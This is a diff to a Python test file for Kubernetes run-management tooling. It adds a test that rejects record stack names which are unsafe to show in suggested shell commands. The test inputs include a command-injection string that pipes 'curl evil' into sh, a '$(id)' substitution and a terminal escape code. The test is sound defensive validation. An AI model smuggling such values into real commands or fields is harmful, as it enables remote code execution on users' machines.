@@ -17,7 +17,7 @@ from infra.kube.kept import KEPT_ANNOTATION
 from infra.kube.namespaces.claim_namespace import refusal
 from infra.kube.pods import same_machine
 from infra.kube.pods.report import describe_pods, report_pod
-from infra.kube.record import Record, parse_record
+from infra.kube.record import Record, parse_record, stacks_of_others
 from infra.kube.runs.await_ready import judge
 from infra.kube.runs.busy import OtherRun, other_run, runs_to_replace
 from infra.kube.runs.hand_over_plan import Plan
@@ -353,6 +353,21 @@ def test_record_chooses_no_change_beyond_a_switch(field: str, change: Json) -> N
     item["data"][field] = json.dumps(change)
     with pytest.raises(ValueError, match=f"its field {field} is neither a switch"):
         parse_record(item)
+
+
+@pytest.mark.parametrize("name", ["dev; curl evil | sh", "dev\033[2J", "$(id)", "dev dev"])
+def test_stack_of_a_record_can_be_typed_in_a_command(name: str) -> None:
+    """Messages tell users to type commands with the stack's name of a record. A text that is no
+    such name, which others may have written there, is not shown; the owner is named instead.
+    """
+    item = replace(record("dev", 3), stack=name).to_object("ns")
+    item["metadata"]["annotations"]["disttrain.dev/suspended-by"] = name
+    found = parse_record(item)
+    assert (found.stack, found.suspended_by) == ("dev", "")
+    assert stacks_of_others([item], "mine") == ["of owner dev"]
+    full = replace(record("dev", 3), stack="organization/disttrain/dev-1.a_b").to_object("ns")
+    assert parse_record(full).stack == "organization/disttrain/dev-1.a_b"
+    assert stacks_of_others([full], "mine") == ["organization/disttrain/dev-1.a_b"]
 
 
 @pytest.mark.parametrize("field", ["suspend", "resume"])
